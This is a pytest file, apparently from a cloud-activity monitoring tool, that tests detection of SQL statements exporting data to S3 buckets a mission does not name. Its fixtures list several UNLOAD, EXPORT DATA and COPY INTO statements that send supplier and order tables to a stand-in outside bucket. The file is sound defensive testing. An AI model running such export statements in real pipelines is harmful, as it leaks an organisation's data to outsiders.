"""Statements that write their result to a location they name (config/rules/
export-statements.yaml; models/features.py, ``_exported``).

A query job is a write in the project that runs it, and its text is an argument like any
other: before, ``UNLOAD (SELECT ...) TO 's3://outside-bucket/'`` in an Athena
``StartQueryExecution`` sent data to a bucket no destination was read from (a URL in text is
no destination unless the call publishes it). Two pipelines of corpus v13 (dev data since),
one Athena ETL run and one BigQuery scheduled query, whose SQL had been edited to export
supplier and distributor data to buckets of no account of the organisation, drew nothing;
their look-alikes exported to the buckets their missions write out. Now each URL an export
statement writes out is a destination, grounded like any other."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest

from missionguard.models.config import DetectionConfig
from missionguard.models.features import decision_features
from missionguard.models.judge import Judge
from missionguard.models.rules import DEFAULT_RULES, StatementRule, compile_patterns, load_names
from missionguard.pipeline.records import AuthorizationDecision, MissionDeclaration
from missionguard.pipeline.settings import Settings
from missionguard.pipeline.sources.cloudtrail import CloudTrailNormalizer

from .conftest import T0, assert_pack_cited_and_checked, cloudtrail_event

ROLE = "arn:aws:sts::550173829044:assumed-role/etl-athena-runner/run-7"
SHARE = "s3://halden-supplier-portal-exchange/fillrate/"
OUTSIDE = "s3://nordic-retail-benchmark-share/halden/"
EXPORTS = compile_patterns(load_names(DEFAULT_RULES / "export-statements.yaml", StatementRule))

STATEMENTS = [
    f"UNLOAD (SELECT supplier_id, qty FROM supply.deliveries) TO '{OUTSIDE}' WITH (format='ORC')",
    f"unload ('select * from sales') to '{OUTSIDE}' iam_role 'arn:aws:iam::1:role/r'",
    f"EXPORT DATA OPTIONS(uri='{OUTSIDE}p_*.parquet', format='PARQUET') AS SELECT * FROM t",
    f"COPY INTO '{OUTSIDE}' FROM orders FILE_FORMAT = (TYPE = PARQUET)",
    f"CREATE TABLE x WITH (external_location = '{OUTSIDE}', format = 'PARQUET') AS SELECT 1",
    f"SELECT * FROM orders INTO OUTFILE S3 '{OUTSIDE}orders'",
    f"INSERT OVERWRITE DIRECTORY '{OUTSIDE}' USING parquet SELECT * FROM orders",
]  # fmt: skip


def _query(n: int, statement: str, operation: str = "write") -> AuthorizationDecision:
    return AuthorizationDecision(
        event_id=f"q{n}", time=T0 + timedelta(minutes=n), agent_id="etl-run",
        action="athena:StartQueryExecution", resource="workgroup/etl-nightly",
        decision="allow", source="t", operation=operation,
        arguments={"request_parameters": {"queryString": statement}},
    )  # fmt: skip


def _destinations(decision: AuthorizationDecision) -> list[str]:
    x: Any = decision_features(decision, None, "etl", exports=EXPORTS)
    return [value for _, _, value, _ in x["outbound"]]


@pytest.mark.parametrize("statement", STATEMENTS)
def test_the_location_an_export_statement_writes_to_is_a_destination(statement: str) -> None:
    (found,) = _destinations(_query(1, statement))
    assert found.startswith(OUTSIDE)


@pytest.mark.parametrize(
    "statement",
    [
        f"SELECT * FROM supply.deliveries WHERE source = '{OUTSIDE}'",  # a value, not a place
        f"COPY INTO orders FROM '{OUTSIDE}' FILE_FORMAT = (TYPE = CSV)",  # a load: it reads
        f"CREATE EXTERNAL TABLE t (a int) LOCATION '{OUTSIDE}'",  # defines a table to read
    ],
)
def test_statements_that_read_from_a_location_send_nothing_there(statement: str) -> None:
    assert _destinations(_query(2, statement)) == []


def test_a_read_runs_no_export() -> None:
    assert _destinations(_query(3, STATEMENTS[0], operation="read")) == []


def _judge() -> tuple[Judge, Any]:
    judge = Judge()
    mission = MissionDeclaration(
        time=T0, agent_id=ROLE, mission_id="m", cohort="etl-runs",
        purpose=f"ETL run of the job supplier_fillrate: Athena queries in the workgroup "
        f"etl-nightly; also UNLOAD the weekly aggregate to {SHARE} (agreement DSA-114).",
        allowed_actions=["athena:*", "glue:*"], issued_by="data-platform",
    )  # fmt: skip
    state, _ = judge.on_mission(None, mission)
    return judge, state


def _athena(n: int, statement: str) -> AuthorizationDecision:
    event = cloudtrail_event(
        "athena.amazonaws.com", "StartQueryExecution",
        {"queryString": statement, "workGroup": "etl-nightly"}, arn=ROLE,
        eventTime=f"2026-05-12T01:{n:02d}:00Z", eventID=f"ct-{n}",
    )  # fmt: skip
    (decision,) = CloudTrailNormalizer().normalize(event)
    return decision


@pytest.mark.parametrize(("location", "stopped"), [(OUTSIDE, True), (f"{SHARE}2026-05-12/", False)])
def test_the_judge_stops_an_unload_to_a_bucket_nothing_names(location: str, stopped: bool) -> None:
    # Fifteen routine queries of the cohort's runs (none exports anywhere), then an UNLOAD:
    # to a bucket nothing names, a destination the cohort's history does not explain either;
    # to the bucket the mission writes out, no finding.
    judge, state = _judge()
    for n in range(15):
        state, verdict = judge.on_decision(state, _athena(n, f"SELECT count(*) FROM t{n}"))
        assert not verdict.commands and not verdict.alerts, verdict
    unload = f"UNLOAD (SELECT * FROM supply.purchase_orders) TO '{location}'"
    state, verdict = judge.on_decision(state, _athena(20, unload))
    if not stopped:
        assert not verdict.commands and not verdict.alerts, verdict
        return
    assert [c.action for c in verdict.commands] == ["suspend"], verdict
    finding = verdict.alerts[0].detectors[0]
    assert finding.name == "mission_grounding.destination" and OUTSIDE in finding.reason


def test_the_export_pack_is_configured_cited_and_checked(tmp_path: Any) -> None:
    unclosed = "patterns: ['(unclosed']"
    assert_pack_cited_and_checked(
        tmp_path, "export-statements.yaml", StatementRule, unclosed, "patterns"
    )
    assert DetectionConfig().export_statements == DEFAULT_RULES / "export-statements.yaml"
    assert Settings().behaviour.export_statements == DEFAULT_RULES / "export-statements.yaml"
    assert {p.pattern for p in Judge().export_statements} == {p.pattern for p in EXPORTS}
